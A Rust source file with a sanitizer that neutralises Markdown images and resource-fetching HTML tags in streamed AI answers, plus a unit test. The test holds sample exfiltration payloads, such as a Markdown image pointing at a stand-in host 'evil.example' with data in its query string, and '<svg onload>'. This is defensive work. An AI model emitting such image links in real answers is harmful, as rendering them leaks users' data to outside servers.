//! Answers that leave for a program which draws Markdown: nothing in them is fetched because somebody looks at it. A picture of a stranger's
//! server would be asked for with what its address says.

/// Elements of HTML that fetch something where they are drawn.
const FETCH: [&str; 18] = [
    "img", "image", "picture", "source", "video", "audio", "track", "iframe", "frame", "object", "embed", "link",
    "svg", "style", "script", "input", "body", "base",
];

/// An answer that comes in pieces, as a program is given it: what would be a picture is a link, what would be an element that fetches is
/// none. A blank is put in, so the words stay, those of code too.
#[derive(Clone, Debug, Default)]
pub struct Unloaded {
    /// What came last and may be the beginning of one of them.
    begun: String,
}

impl Unloaded {
    /// The next piece.
    pub fn push(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len() + 8);
        for letter in piece.chars() {
            if self.begun == "!" && letter == '[' {
                out.push(' ');
            }
            match letter {
                '!' | '<' => self.begun = letter.to_string(),
                letter if self.begun.starts_with('<') && letter.is_ascii_alphabetic() => {
                    self.begun.push(letter.to_ascii_lowercase());
                    let name = &self.begun[1..];
                    if FETCH.contains(&name) {
                        out.push(' ');
                    }
                    if !FETCH.iter().any(|known| known.starts_with(name)) {
                        self.begun.clear();
                    }
                }
                _ => self.begun.clear(),
            }
            out.push(letter);
        }
        out
    }

    /// A whole answer.
    pub fn whole(text: &str) -> String {
        Self::default().push(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // SEC-005
    #[test]
    fn nothing_of_an_answer_is_fetched_by_whoever_draws_it() {
        for (text, expected) in [
            (
                "Look: ![The Anchor](http://evil.example/a.png?x=4711)",
                "Look: ! [The Anchor](http://evil.example/a.png?x=4711)",
            ),
            ("![a][b]\n\n[b]: http://evil.example", "! [a][b]\n\n[b]: http://evil.example"),
            ("!![a](b) [c](d)!", "!! [a](b) [c](d)!"),
            ("<IMG src=x> <img/src=x> <svg onload>", "<IM G src=x> <im g/src=x> <sv g onload>"),
            ("<<img src=x>", "<<im g src=x>"),
            ("let x: Vec<i32> = vec![1]; a < b, <b>!", "let x: Vec<i32> = vec! [1]; a < b, <b>!"),
        ] {
            assert_eq!(Unloaded::whole(text), expected);
            let mut pieces = Unloaded::default();
            let apart: String = text.chars().map(|letter| pieces.push(letter.encode_utf8(&mut [0; 4]))).collect();
            assert_eq!(apart, expected, "letter by letter");
        }
    }
}
